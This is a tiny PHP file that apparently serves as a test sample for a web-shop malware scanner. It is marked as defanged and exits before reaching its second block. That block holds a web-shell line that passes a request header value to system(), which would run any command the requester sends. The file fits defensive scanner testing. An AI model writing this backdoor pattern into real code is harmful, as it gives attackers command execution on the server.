<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
$out = system($_SERVER['HTTP_X_SG_DEFANGED']);
